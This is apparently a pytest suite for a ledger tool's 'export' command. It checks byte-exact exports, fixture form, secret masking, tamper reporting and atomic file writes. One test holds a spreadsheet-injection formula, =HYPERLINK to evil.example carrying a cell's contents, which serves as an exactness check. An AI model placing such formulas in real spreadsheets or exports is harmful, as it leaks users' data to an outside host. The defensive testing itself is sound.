"""``turnledger export``: what leaves is whole, exact, and verifies elsewhere."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

import turnledger
from tests.cli.kit import BIG, HOSTILE, Recorded, run, tamper
from tests.patience import PROGRAM_S


def lines(data: bytes) -> list[dict[str, Any]]:
    return [json.loads(line) for line in data.splitlines()]


def test_a_turn_as_lines(support: Recorded) -> None:
    shown = support.run("export", support.ids["good"])
    head, *events = lines(shown.raw)
    assert (shown.status, shown.err) == (0, "")
    assert (head["schema"], head["journal"]["id"], head["events"]) == (
        "turnledger.journal/1",
        support.ids["good"],
        14,
    )
    assert [event["seq"] for event in events] == list(range(14))
    assert events[0]["bodies"]["payload"]["state"] == "withheld"
    assert b"pwned" not in shown.raw


def test_d05_bodies_leave_byte_for_byte(support: Recorded) -> None:
    events = lines(support.run("export", support.ids["good"], "--bodies").raw)[1:]
    assert events[0]["bodies"]["payload"]["text"] == HOSTILE
    assert events[6]["bodies"]["payload"]["text"] == f'{{"order":{BIG},"status":"shipped"}}'
    assert events[5]["bodies"]["supplied"]["text"] == '{"id": "7" }'


def test_r04_json_stays_exact_whatever_a_spreadsheet_would_make_of_it(made: Recorded) -> None:
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
    with made.ledger.agent("a").turn("api", content="go") as turn:
        turn.tool(formula, lambda: "\t@SUM(1)", supplied="{}")
        turn.commit("-5", reply=False)
    events = lines(made.run("export", turn.id, "--bodies").raw)[1:]
    assert events[2]["bodies"]["payload"]["text"] == "\t@SUM(1)"
    assert events[3]["bodies"]["payload"]["text"] == "-5"
    assert json.loads(made.run("show", turn.id, "--json").out)["events"][1]["tokens"]["tool"] == formula


def test_a_conversation_brings_its_turns_and_all_brings_everything(support: Recorded) -> None:
    support.ledger.agent("other").conversation("k").inbound("hi")
    of_one = [
        line["journal"]["id"]
        for line in lines(support.run("export", support.ids["conversation"]).raw)
        if "schema" in line
    ]
    assert of_one == [support.ids[name] for name in ("conversation", "good", "bad")]
    everything = [line for line in lines(support.run("export", "--all").raw) if "schema" in line]
    assert len(everything) == 4
    assert sum(head["events"] for head in everything) == 34


def test_r02_an_export_is_never_cut(made: Recorded, tmp_path: Path) -> None:
    """1,800 events of one turn, in every way out of the ledger."""
    with made.ledger.agent("a").turn("api", content="go") as turn:
        for _ in range(1798):
            turn.progress("x")
        turn.commit("done", reply=False)
    assert len(lines(made.run("export", turn.id).raw)) == 1801
    assert len(json.loads(made.run("export", turn.id, "--fixture").raw)["events"]) == 1800
    assert len(json.loads(made.run("show", turn.id, "--json").raw)["events"]) == 1800
    file = tmp_path / "whole.jsonl"
    assert made.run("export", "--all", "-o", file).err == f"{file}: 1,803 events, {_size(file)}\n"
    assert json.loads(run("verify", file, "--json").out)["verdict"] == "intact"


def _size(file: Path) -> str:
    size = file.stat().st_size
    return f"{size / 1024:,.1f} KiB" if size < 1 << 20 else f"{size / (1 << 20):,.1f} MiB"


# --- fixtures ----------------------------------------------------------------------------------------


def test_a_fixture_has_the_seeds_form(support: Recorded) -> None:
    fixture = json.loads(support.run("export", support.ids["good"], "--fixture").raw)
    assert list(fixture) == ["schema", "exportedAt", "source", "chain", "events", "expected", "commitment"]
    assert fixture["chain"] == {
        "serverIntact": True,
        "brokenAtSeq": -1,
        "verification": "ok",
        "clientVerified": None,
    }
    assert set(fixture["events"][0]) == {
        "seq",
        "type",
        "payloadHash",
        "summary",
        "prevHash",
        "hash",
        "createdAt",
    }
    assert fixture["source"]["turnId"] == support.ids["good"]
    assert fixture["commitment"] == "hmac-sha256"
    assert fixture["expected"]["finalStatus"] == "completed"
    assert fixture["expected"]["toolSequence"] == [f"lookup|{fixture['events'][5]['payloadHash']}"]


def test_a_folder_gets_the_files_own_name(support: Recorded, tmp_path: Path) -> None:
    assert support.run("export", support.ids["good"], "--fixture", "-o", tmp_path).status == 0
    assert support.run("export", support.ids["conversation"], "-o", tmp_path).status == 0
    assert sorted(path.name for path in tmp_path.iterdir() if not path.name.startswith("agent")) == [
        f"conversation-{support.ids['conversation']}.jsonl",
        f"turn-{support.ids['good']}.fixture.json",
    ]


def test_salts_and_bodies_come_on_request_and_verify(support: Recorded, tmp_path: Path) -> None:
    plain = json.loads(support.run("export", support.ids["good"], "--fixture").raw)
    salted = json.loads(support.run("export", support.ids["good"], "--fixture", "--salts").raw)
    full_file = tmp_path / "full.json"
    support.run("export", support.ids["good"], "--fixture", "--bodies", "-o", full_file)
    full = json.loads(full_file.read_bytes())
    assert not {"salts", "bodies"} & plain.keys()
    assert set(salted["salts"]) >= {"5/payload", "5/supplied", "13/payload"}
    assert "bodies" not in salted
    assert full["bodies"]["5/supplied"] == '{"id": "7" }'
    assert full["salts"].keys() == full["bodies"].keys()
    assert run("verify", full_file).status == 0
    full_file.write_text(
        json.dumps({**full, "bodies": {**full["bodies"], "13/payload": "It never arrives."}})
    )
    found = json.loads(run("verify", full_file, "--json").out)["results"][0]
    assert (found["verdict"], found["reason"], found["brokenAtSeq"]) == ("broken", "payload", 13)


def test_a_folder_that_is_not_there_is_made(support: Recorded, tmp_path: Path) -> None:
    folder = tmp_path / "tests" / "turns"
    assert support.run("export", support.ids["good"], "--fixture", "-o", f"{folder}/").status == 0
    made = folder / f"turn-{support.ids['good']}.fixture.json"
    assert json.loads(made.read_bytes())["source"]["turnId"] == support.ids["good"]


def test_secrets_are_masked_in_a_fixture(made: Recorded) -> None:
    key = "sk-abcdefghijklmnopqrstuvwx"
    with made.ledger.agent("a").turn("api", content=f"use {key}, I say {key}") as turn:
        turn.commit("ok", reply=False)
    bodies = json.loads(made.run("export", turn.id, "--fixture", "--bodies").raw)["bodies"]
    assert bodies["0/payload"] == {"masked": "use [secret-1], I say [secret-1]"}
    assert bodies["1/payload"] == "ok"


def test_a_broken_turn_is_exported_and_says_so(support: Recorded) -> None:
    tamper(support.path, "UPDATE events SET tokens = tokens || ' x=1' WHERE type = 'GUARD'")
    shown = support.run("export", support.ids["good"], "--fixture")
    assert shown.status == 1
    assert "does not hold" in shown.err
    assert json.loads(shown.raw)["chain"] == {
        "serverIntact": False, "brokenAtSeq": 1, "verification": "hash", "clientVerified": None,
    }  # fmt: skip


@pytest.mark.parametrize(
    ("options", "said"), [("--all --fixture", "--all names them all"), ("0198 --salts", "--salts belongs to")]
)
def test_what_does_not_go_together_is_what_was_given(options: str, said: str) -> None:
    refused = run("export", *options.split())
    assert refused.status == 2
    assert said in refused.err
    assert ("--salts" in refused.err) == ("--salts" in options)


def test_a_fixture_of_a_conversation_is_refused(support: Recorded) -> None:
    refused = support.run("export", support.ids["conversation"], "--fixture")
    assert (refused.status, refused.out) == (3, "")
    assert "holds no turn whose id begins with" in refused.err


# --- files -------------------------------------------------------------------------------------------


def test_json_says_what_went_where(support: Recorded, tmp_path: Path) -> None:
    file = tmp_path / "x.jsonl"
    told = json.loads(support.run("export", support.ids["good"], "-o", file, "--json").out)
    assert told == {"file": str(file), "journals": 1, "events": 14, "bytes": file.stat().st_size, "cut": []}


def test_a_file_is_whole_or_as_it_was(
    support: Recorded, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = tmp_path / "x.jsonl"
    file.write_text("before")

    def fail(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr("turnledger.cli.output_file.os.fsync", fail)
        refused = support.run("export", "--all", "-o", file)
    assert refused.status == 3
    assert "cannot be written: No space left on device." in refused.err
    assert file.read_text() == "before"
    assert [path.name for path in tmp_path.iterdir() if "part" in path.name] == []
    assert support.run("export", "--all", "-o", tmp_path / "no" / "such" / "x").status == 3
    assert support.run("export", "--all", "-o", file).status == 0
    assert len(lines(file.read_bytes())) == 35


def test_ctrl_c_leaves_nothing_half_written(support: Recorded, tmp_path: Path) -> None:
    waiting = (
        "import turnledger.cli.export as export, time\n"
        "real = export.journal_lines\n"
        "def slow(*args, **kwargs):\n"
        "    for line in real(*args, **kwargs):\n"
        "        yield line\n"
        "        print('.', flush=True)\n"
        "        time.sleep(60)\n"
        "export.journal_lines = slow\n"
        "from turnledger.cli import main\n"
        "main()\n"
    )
    target = tmp_path / "out"
    target.mkdir()
    program = [sys.executable, "-c", waiting, "export", "--all", "-o", str(target / "x.jsonl")]
    child = subprocess.Popen(
        [*program, "--ledger", str(support.path)], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    assert child.stdout is not None
    child.stdout.readline()
    child.send_signal(signal.SIGINT)
    _, err = child.communicate(timeout=PROGRAM_S)
    assert child.returncode == 130
    assert b"Traceback" not in err
    assert list(target.iterdir()) == []


def test_a_turn_that_is_gone_stops_an_export_loudly(support: Recorded, tmp_path: Path) -> None:
    journal = bytes.fromhex(support.ids["bad"].replace("-", ""))
    tamper(support.path, "DELETE FROM journals WHERE id = ?", values=(journal,))
    file = tmp_path / "x.jsonl"
    refused = support.run("export", support.ids["conversation"], "-o", file)
    assert refused.status == 3
    assert f"opened turn {support.ids['bad']}, and the ledger holds no such turn" in refused.err
    assert not file.exists()


def test_an_export_replaces_no_ledger(support: Recorded, tmp_path: Path) -> None:
    other = tmp_path / "other.db"
    with turnledger.open(other) as ledger:
        ledger.agent("support").conversation("dm").inbound("hello")
        for target in (support.path, other):
            before = target.read_bytes()
            refused = support.run("export", "--all", "-o", target)
            assert (refused.status, refused.out) == (3, "")
            assert f"{target} is a ledger" in refused.err
            assert target.read_bytes() == before
        ledger.agent("support").conversation("dm").inbound("still the same file")
    assert support.run("export", "--all", "-o", tmp_path / "lines.jsonl").status == 0
